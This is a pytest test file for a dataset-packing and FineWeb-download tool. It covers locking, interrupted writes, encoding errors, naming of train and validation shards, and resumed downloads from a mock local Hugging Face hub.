    def test_an_interrupt_while_the_folder_is_claimed_or_tidied_up(self, tmp_path, monkeypatch, name):  # fmt: skip
        """It falls between making the lock and noting that it is there: a window of microseconds, opened here."""
        small_pack(tmp_path / "d")
        before = contents(tmp_path / "d")
        original = getattr(writer, name)

        def interrupted(*arguments):
            result = original(*arguments)
            os.kill(os.getpid(), signal.SIGINT)
            return result

        monkeypatch.setattr(writer, name, interrupted)
        with pytest.raises(KeyboardInterrupt), writer.staging(tmp_path / "d") as staged:
            (staged / "half").write_text("half")
        assert contents(tmp_path / "d") == before
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler

    def test_two_at_once(self, tmp_path):
        small_pack(tmp_path / "d")
        busy = pytest.raises(UserError, match="another process is at work")
        with writer.staging(tmp_path / "d"), busy:
            small_pack(tmp_path / "d")
        small_pack(tmp_path / "d")

    @pytest.mark.skipif(os.name == "nt", reason="links")
    def test_links_and_mount_points(self, tmp_path):
        (tmp_path / "disk").mkdir()
        (tmp_path / "disk" / "lost+found").mkdir()
        (tmp_path / "link").symlink_to(tmp_path / "disk")
        for _ in range(2):
            small_pack(tmp_path / "link")
        assert (tmp_path / "link").is_symlink() and len(list((tmp_path / "disk").iterdir())) == 4

    def test_a_wrong_embedded_corpus_does_not_replace_the_right_one(self, tmp_path, embedded, monkeypatch):  # fmt: skip
        for path in embedded.glob("*.*n*"):
            shutil.copy(path, tmp_path)
        before = contents(tmp_path)
        assert build_embedded(tmp_path, tmp_path / "wheels") == load_manifest(embedded)  # in place
        assert contents(tmp_path) == before
        monkeypatch.setattr(sources, "EMBEDDED_SHA256", "0" * 64)
        monkeypatch.setattr(sources, "package_text", lambda package, wheels: {f"{package}/{n}.py": b"x = 1\n" * n for n in range(1, 99)})  # fmt: skip
        with pytest.raises(UserError, match="the corpus has SHA-256"):
            build_embedded(tmp_path, tmp_path / "wheels")
        assert contents(tmp_path) == before

    def test_processes_that_all_want_the_embedded_text(self, tmp_path, monkeypatch):
        """The second waits for the first, and finds that there is nothing left to do."""
        monkeypatch.setattr(sources, "package_text", lambda package, wheels: {f"{package}/{n}.py": b"x = 1\n" * n for n in range(1, 99)})  # fmt: skip
        with pytest.raises(UserError, match="the corpus has SHA-256") as caught:
            build_embedded(tmp_path / "d", tmp_path)
        sha256 = re.search(r"SHA-256 (\w{64})", caught.value.what)[1]
        monkeypatch.setattr(sources, "EMBEDDED_SHA256", sha256)
        built = []
        real = sources.write_files
        monkeypatch.setattr(sources, "write_files", lambda *args: (built.append(args), time.sleep(0.5), real(*args))[2])  # fmt: skip
        with ThreadPoolExecutor(3) as pool:
            results = list(pool.map(lambda _: build_embedded(tmp_path / "d", tmp_path), range(3)))
        assert [result.sha256 for result in results] == [sha256] * 3 and len(built) == 1

    def test_a_folder_that_goes_while_it_is_asked_for(self, tmp_path, monkeypatch):
        """mkdir finds a folder there, and looking again finds none: another process has just ended."""
        real, refused = Path.mkdir, []

        def mkdir(path, *args, **kwargs):
            if path.name == writer.STAGING and not refused:
                refused.append(path)
                raise FileExistsError(17, "File exists", str(path))
            real(path, *args, **kwargs)

        monkeypatch.setattr(Path, "mkdir", mkdir)
        with writer.staging(tmp_path / "d") as staged:
            assert staged.is_dir() and refused == [staged]
        (tmp_path / "d").mkdir()
        (tmp_path / "d" / writer.STAGING).write_text("a file of that name")
        with pytest.raises(UserError, match="something of that name|File exists|exists"), writer.staging(tmp_path / "d"):  # fmt: skip
            pass

    @pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
    def test_a_full_disk_is_a_message(self, tmp_path, monkeypatch, capsys):
        small_pack(tmp_path / "d")
        before, real = contents(tmp_path / "d"), Path.write_bytes

        def write_bytes(path, data):
            with open("/dev/full", "wb") as full:
                full.write(data)

        monkeypatch.setattr(Path, "write_bytes", write_bytes)
        text = str(tmp_path / "text-9.txt")
        assert main(["pack", text, "--tokenizer", "bytes", "--out", str(tmp_path / "d")]) == 1
        assert "No space left on device\n  → free some space" in capsys.readouterr().err
        assert contents(tmp_path / "d") == before
        monkeypatch.setattr(Path, "write_bytes", real)
        corpus(tmp_path / "e", [500])
        write_shard(tmp_path / "e" / "val.bin", np.full(9, 287))
        write_shard(tmp_path / "e" / "train_000000.bin", np.full(9, 287))
        (tmp_path / "e" / "manifest.json").unlink()
        assert main(["manifest", str(tmp_path / "e"), "--tokenizer", "bytes"]) == 0
        before = contents(tmp_path / "e")
        monkeypatch.setattr(Path, "write_bytes", write_bytes)
        assert main(["manifest", str(tmp_path / "e"), "--tokenizer", "bytes"]) == 1
        told = capsys.readouterr().err
        assert "free some space" in told and str(tmp_path / "e") in told
        assert contents(tmp_path / "e") == before

    def test_modes_are_those_of_other_files(self, tmp_path):
        small_pack(tmp_path / "d")
        (tmp_path / "plain").touch()
        modes = {path.stat().st_mode for path in (tmp_path / "d").iterdir()}
        assert modes == {(tmp_path / "plain").stat().st_mode}


class TestTexts:
    @given(
        st.lists(st.text(st.sampled_from("abc \n"), min_size=1, max_size=400), min_size=1, max_size=5),
        st.floats(1e-9, 1, exclude_max=True),
    )  # fmt: skip
    def test_no_split_is_empty_and_nothing_is_lost(self, texts, share):
        splits = split_texts(texts, share)
        assert sum(map(len, splits["train"] + splits["val"])) == sum(map(len, texts))
        assert sorted("".join(splits["train"] + splits["val"])) == sorted("".join(texts))
        by_hash = {is_validation(text, share) for text in texts}
        if by_hash == {True, False}:
            assert splits["val"] == [text for text in texts if is_validation(text, share)]
        elif max(len(text) for text in texts) > 200:
            assert all(splits["train"]) and all(splits["val"]) and all(splits.values())

    @pytest.mark.parametrize("share", [0.05, 0.5, 0.999])
    @pytest.mark.parametrize("tokenizer", ["bytes", "gpt2"])
    def test_one_text_file_packs(self, tmp_path, share, tokenizer):
        text = "".join(f"SPEAKER {n}:\nWords, words, words.\n\n" for n in range(2000))
        (tmp_path / "input.txt").write_text(text)
        made = pack([tmp_path / "input.txt"], tmp_path / "d", tokenizer, share)
        (val,) = made.split("val")
        assert abs(val.bytes / len(text) - share) < 0.01
        parts = [read_shard(tmp_path / "d" / f"{split}_000000.bin", made.vocab_size)[1:] for split in ("train", "val")]  # fmt: skip
        joined = "".join(get_tokenizer(tokenizer).decode(part.tolist()) for part in parts)
        assert joined == text
        assert get_tokenizer(tokenizer).decode(parts[1].tolist()).startswith("SPEAKER")

    @pytest.mark.parametrize("share", ["0", "1", "1.5", "-1", "nan", "inf"])
    def test_a_share_is_between_0_and_1(self, tmp_path, share, capsys):
        arguments = ["pack", "none.txt", "--out", str(tmp_path / "d"), f"--validation={share}"]
        assert main(arguments) == 1
        assert "is no share between 0 and 1" in capsys.readouterr().err
        assert not (tmp_path / "d").exists()

    @pytest.mark.skipif(os.name == "nt" or not shutil.which("iconv"), reason="a Unix shell's tools")
    @pytest.mark.parametrize("suffix", [".txt", ".jsonl", ".ndjson"])
    @pytest.mark.parametrize("how", ["gzip", "bzip2", "xz", "utf-16", "utf-16-le", "utf-16-be"])
    def test_what_the_message_says_makes_text_of_it(self, tmp_path, how, suffix, capsys):
        text = '{"text": "Roses are red. Grüße!"}\n' * 30
        squeeze = {"gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress}
        endings = {"gzip": ".gz", "bzip2": ".bz2", "xz": ".xz"}
        content = squeeze[how](text.encode()) if how in squeeze else text.encode(how)
        path = tmp_path / f"my docs{suffix}{endings.get(how, '')}"
        path.write_bytes(content)
        if how in endings and not shutil.which({"gzip": "gunzip", "bzip2": "bunzip2", "xz": "unxz"}[how]):  # fmt: skip
            pytest.skip(f"no tool for {how}")
        with pytest.raises(UserError, match="not UTF-8 text") as caught:
            read_documents(path)
        assert ("iconv -f UTF-16" if how.startswith("utf") else "-k") in caught.value.fix
        there = set(tmp_path.iterdir())
        subprocess.run(caught.value.fix.split(": ", 1)[1], shell=True, cwd=tmp_path, check=True)
        (made,) = set(tmp_path.iterdir()) - there
        assert path.read_bytes() == content and made.suffix == suffix
        assert "".join(read_documents(made)) == (text if suffix == ".txt" else "Roses are red. Grüße!" * 30)  # fmt: skip

    def test_other_things_that_are_no_text(self, tmp_path):
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as file:
            file.writestr("a.txt", "text")
        write_shard(tmp_path / "shard.bin", np.arange(9))
        for content, words in (
            (archive.getvalue(), "unzip"),
            (b"text\0with a zero" * 99, "tr -d"),
            (b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull"),
            ((tmp_path / "shard.bin").read_bytes(), "is a shard of tokens already"),
            (b"%PDF-1.7\n\xe2\xe3\xcf\xd3", "pdftotext"),
            ("Grüße".encode("latin-1"), "iconv -f LATIN1"),
        ):
            for name in ("a.txt", "a.jsonl"):
                (tmp_path / name).write_bytes(content)
                with pytest.raises(UserError, match="not UTF-8 text") as caught:
                    read_documents(tmp_path / name)
                assert words in caught.value.fix

    def test_what_was_fine_stays_fine(self, tmp_path):
        """Special tokens are text, line separators of Unicode do not end a line of JSON, a mark at the start is none."""
        lines = [{"text": "a<|endoftext|>b"}, {"text": "one\u2028two\u2029three\x85four"}]
        dumped = "\ufeff" + "\r\n".join(json.dumps(line, ensure_ascii=False) for line in lines)
        (tmp_path / "a.jsonl").write_text(dumped, encoding="utf-8", newline="")
        assert read_documents(tmp_path / "a.jsonl") == [line["text"] for line in lines]
        made = pack([tmp_path / "a.jsonl"], tmp_path / "d", "gpt2", 0.5)
        tokens = [read_shard(tmp_path / "d" / file.name, 50257) for file in made.files]
        assert sum(int((part == 50256).sum()) for part in tokens) == len(tokens) or len(tokens) == 2
        (tmp_path / "cut.jsonl").write_text('{"text": "whole"}\n{"text": "cut')
        with pytest.raises(UserError, match="line 2"):
            read_documents(tmp_path / "cut.jsonl")
        (tmp_path / "deep.jsonl").write_text("[" * 200_000)
        with pytest.raises(UserError, match="line 1"):
            read_documents(tmp_path / "deep.jsonl")


class TestNames:
    @pytest.mark.parametrize(
        ("name", "split"),
        [
            ("constrained_val_0.bin", "val"),
            ("train.bin", "train"),
            ("fineweb_train_000001.bin", "train"),
            ("x-VAL.0.bin", "val"),
            ("my validation 1.bin", "val"),
            ("training_set.bin", "train"),
            ("valley.bin", None),
            ("interval_retrained.bin", None),
        ],
    )
    def test_a_split_is_a_word_of_the_name(self, name, split):
        assert split_of(name) == split

    def test_two_words_are_refused_and_none_is_said(self, tmp_path, capsys):
        tokens = np.append(287, np.arange(50))
        for name in ("constrained_val_0.bin", "train_0.bin", "other.bin"):
            write_shard(tmp_path / name, tokens)
        assert main(["manifest", str(tmp_path), "--tokenizer", "bytes"]) == 0
        assert "left out" in (told := capsys.readouterr().out) and "other.bin" in told
        assert {file.name: file.split for file in load_manifest(tmp_path).files} == {
            "constrained_val_0.bin": "val",
            "train_0.bin": "train",
        }
        write_shard(tmp_path / "train_val.bin", tokens)
        assert main(["manifest", str(tmp_path), "--tokenizer", "bytes"]) == 1
        assert "of both splits by its name" in capsys.readouterr().err


class Hub(http.server.BaseHTTPRequestHandler):
    """Just enough of the Hugging Face hub: paths-info, and files with ranges. `files`: name → bytes."""

    files: dict[str, bytes] = {}
    broken: str | None = None
    log: list[str] = []

    def log_message(self, *args):
        pass

    def answer(self, body: bytes, kind: str = "application/json", status: int = 200, **headers):
        self.send_response(status)
        for name, value in {
            "Content-Type": kind,
            "Content-Length": str(len(body)),
            **headers,
        }.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        names = re.findall(r"fineweb_\w+\.bin", body.decode())
        found = []
        for name in names:
            if name in self.files:
                data = self.files[name]
                lfs = {
                    "oid": hashlib.sha256(data).hexdigest(),
                    "size": len(data),
                    "pointerSize": 134,
                }
                found.append(
                    {"type": "file", "path": name, "size": len(data), "oid": "0" * 40, "lfs": lfs}
                )
        self.answer(json.dumps(found).encode())

    def do_HEAD(self):
        self.do_GET()

    def do_GET(self):
        name = self.path.split("/")[-1].split("?")[0]
        if name not in self.files:
            return self.answer(b"{}", status=404, X_Error_Code="EntryNotFound")
        data = self.files[name]
        etag = f'"{hashlib.sha256(data).hexdigest()}"'
        headers = {
            "ETag": etag,
            "X_Repo_Commit": "a" * 40,
            "Accept_Ranges": "bytes",
            "X_Linked_ETag": etag,
            "X_Linked_Size": str(len(data)),
        }
        wanted = re.match(r"bytes=(\d+)-", self.headers.get("Range", ""))
        if self.command == "GET":
            self.log.append(f"{name} {self.headers.get('Range', '')}")
        if wanted:
            start = int(wanted[1])
            headers["Content_Range"] = f"bytes {start}-{len(data) - 1}/{len(data)}"
            return self.answer(data[start:], "application/octet-stream", 206, **headers)
        if self.command == "GET" and name == self.broken:
            Hub.broken = None  # once: promise everything, send half, hang up
            self.send_response(200)
            for key, value in {"Content-Length": str(len(data)), **headers}.items():
                self.send_header(key.replace("_", "-"), value)
            self.end_headers()
            self.wfile.write(data[: len(data) // 2])
            self.wfile.flush()
            return self.connection.close()
        self.answer(data, "application/octet-stream", **headers)


@pytest.fixture
def hub(tmp_path):
    def shard(seed: int) -> bytes:
        tokens = np.random.default_rng(seed).integers(0, 50257, 3000)
        tokens[0] = 50256
        write_shard(tmp_path / "made.bin", tokens)
        return (tmp_path / "made.bin").read_bytes()

    Hub.files = {
        "fineweb_val_000000.bin": shard(0),
        "fineweb_train_000001.bin": shard(1),
        "fineweb_train_000002.bin": shard(2),
    }
    Hub.log = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def fetch(hub: str, out: Path, *flags: str) -> subprocess.CompletedProcess:
    """`python -m speedrun.data fineweb`, from a local hub."""
    command = [sys.executable, "-m", "speedrun.data", "fineweb", "--out", str(out), *flags]
    environment = os.environ | {
        "HF_ENDPOINT": hub,
        "HF_HOME": str(out.parent / "hf"),
        "HF_HUB_DISABLE_XET": "1",
    }
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=120)


class TestFineWeb:
    def test_fetches_checks_and_keeps(self, hub, tmp_path):
        done = fetch(hub, tmp_path / "fw", "--shards", "2")
        assert done.returncode == 0, done.stderr
        assert "3 of 3 files to fetch" in done.stdout and "GB free" in done.stdout
        manifest = load_manifest(tmp_path / "fw")
        assert (manifest.tokenizer, manifest.vocab_size, len(manifest.files)) == ("gpt2", 50257, 3)
        for file in manifest.files:
            assert (tmp_path / "fw" / file.name).read_bytes() == Hub.files[file.name]
            assert file.sha256 == hashlib.sha256(Hub.files[file.name]).hexdigest()
        Hub.log.clear()
        again = fetch(hub, tmp_path / "fw", "--shards", "2")
        assert again.returncode == 0 and "0 of 3 files to fetch" in again.stdout and Hub.log == []

    def test_a_download_that_breaks_off_goes_on_where_it_stopped(self, hub, tmp_path):
        write_shard(
            tmp_path / "large.bin", np.arange(15_000_000) % 50257
        )  # the library writes pieces of 10 MB
        Hub.files["fineweb_train_000001.bin"] = (tmp_path / "large.bin").read_bytes()
        Hub.broken = "fineweb_train_000001.bin"
        done = fetch(hub, tmp_path / "fw", "--shards", "1")
        if done.returncode:  # the library gave up: the same command again
            assert "the same command again: it resumes" in done.stderr
            done = fetch(hub, tmp_path / "fw", "--shards", "1")
        assert done.returncode == 0, done.stderr
        assert any(re.search(r"train_000001.bin bytes=[1-9]", line) for line in Hub.log), Hub.log
        assert (tmp_path / "fw" / "fineweb_train_000001.bin").read_bytes() == Hub.files[
            "fineweb_train_000001.bin"
        ]

    def test_a_damaged_file_is_fetched_again(self, hub, tmp_path):
        fetch(hub, tmp_path / "fw", "--shards", "1")
        victim = tmp_path / "fw" / "fineweb_train_000001.bin"
        victim.write_bytes(victim.read_bytes()[:-100])
        done = fetch(hub, tmp_path / "fw", "--shards", "1")
        assert done.returncode == 0 and "1 of 2 files to fetch" in done.stdout
        assert victim.read_bytes() == Hub.files["fineweb_train_000001.bin"]

    def test_what_is_not_the_hubs_is_not_removed(self, hub, tmp_path):
        mine = tmp_path / "fw" / "fineweb_train_000001.bin"
        mine.parent.mkdir()
        mine.write_bytes(b"a month of work")
        done = fetch(hub, tmp_path / "fw", "--shards", "1")
        assert done.returncode == 1 and "neither the hub nor a manifest says" in done.stderr
        assert contents(tmp_path / "fw") == {mine.name: b"a month of work"}
        small_pack(tmp_path / "packed")
        before = contents(tmp_path / "packed")
        done = fetch(hub, tmp_path / "packed", "--shards", "1")
        assert done.returncode == 1 and "lists other shards than FineWeb's" in done.stderr
        assert contents(tmp_path / "packed") == before

    def test_what_the_hub_did_not_announce_is_not_taken(self, hub, tmp_path, monkeypatch):
        def other(name, size, sha256):
            monkeypatch.setattr(sources, "hub_files", lambda shards: {name: (size, sha256)})
            sources.fetch_fineweb(tmp_path / "fw", 1, lambda text: None)

        def hf_hub_download(repository, name, repo_type, local_dir):
            (local_dir / ".cache").mkdir()  # what lets a later call go on
            (local_dir / name).write_bytes(b"something else")

        import huggingface_hub

        monkeypatch.setattr(huggingface_hub, "hf_hub_download", hf_hub_download)
        with pytest.raises(UserError, match="is not what the hub announced"):
            other("fineweb_val_000000.bin", 7, "0" * 64)
        assert not list((tmp_path / "fw").rglob("fineweb*"))

    def test_what_the_hub_does_not_have(self, hub, tmp_path):
        done = fetch(hub, tmp_path / "fw", "--shards", "3")
        assert done.returncode == 1 and "has no" in done.stderr and "fewer --shards" in done.stderr
        done = fetch(hub, tmp_path / "fw", "--shards", "104")
        assert done.returncode == 1 and "training shards 1 to 103" in done.stderr

    def test_no_hub(self, tmp_path):
        done = fetch("http://127.0.0.1:9", tmp_path / "fw", "--shards", "1")
        assert (
            done.returncode == 1
            and "did not answer" in done.stderr
            and "Traceback" not in done.stderr
        )

    def test_no_room(self, hub, tmp_path, monkeypatch):
        usage = shutil.disk_usage(tmp_path)
        monkeypatch.setattr(sources.shutil, "disk_usage", lambda path: usage._replace(free=1000))
        monkeypatch.setattr(
            sources, "hub_files", lambda shards: {"fineweb_val_000000.bin": (200_000_000, None)}
        )
        with pytest.raises(UserError, match="has no room for the shards: 0.20 GB"):
            sources.fetch_fineweb(tmp_path / "fw", 1)


class TestCommand:
    def test_pack_verify_and_damage(self, tmp_path, capsys):
        for n in range(40):
            (tmp_path / f"{n}.txt").write_text(f"Text number {n}.\n" * (n + 3))
        files = [str(path) for path in sorted(tmp_path.glob("*.txt"))]
        assert main(["pack", *files, "--out", str(tmp_path / "mine"), "--validation", "0.3"]) == 0
        assert main(["verify", str(tmp_path / "mine")]) == 0
        shard = tmp_path / "mine" / "val_000000.bin"
        content = bytearray(shard.read_bytes())
        content[1030] ^= 1
        shard.write_bytes(content)
        capsys.readouterr()
        assert main(["verify", str(tmp_path / "mine")]) == 1
        assert "SHA-256" in capsys.readouterr().err

    def test_pack_says_what_is_wrong(self, tmp_path, capsys):
        (tmp_path / "latin.txt").write_bytes("Grüße".encode("latin-1"))
        for wrong, words in (
            (tmp_path / "latin.txt", "not UTF-8"),
            (tmp_path / "none.txt", "cannot be read"),
        ):
            assert main(["pack", str(wrong), "--out", str(tmp_path / "out")]) == 1
            assert words in capsys.readouterr().err
        (tmp_path / "one.txt").write_text("alone")
        assert main(["pack", str(tmp_path / "one.txt"), "--out", str(tmp_path / "out")]) == 1
        assert "no document is left" in capsys.readouterr().err

    def test_somebody_elses_shards_get_a_manifest(self, tmp_path, capsys):
        write_shard(tmp_path / "x_train_1.bin", np.append(50256, np.arange(100)))
        assert (
            main(["manifest", str(tmp_path), "--tokenizer", "gpt2"]) == 1
            and "has no val shard" in capsys.readouterr().err
        )
        write_shard(tmp_path / "x_val_0.bin", np.append(50256, np.arange(50)))
        assert (
            main(["manifest", str(tmp_path), "--tokenizer", "gpt2", "--source", "elsewhere"]) == 0
        )
        assert load_manifest(tmp_path).source == "elsewhere"

    def test_help_explains_every_command(self):
        for command in ("embedded", "fineweb", "pack", "manifest", "verify"):
            done = subprocess.run(
                [sys.executable, "-m", "speedrun.data", command, "--help"],
                capture_output=True,
                text=True,
            )
            assert done.returncode == 0 and "data folder" in done.stdout
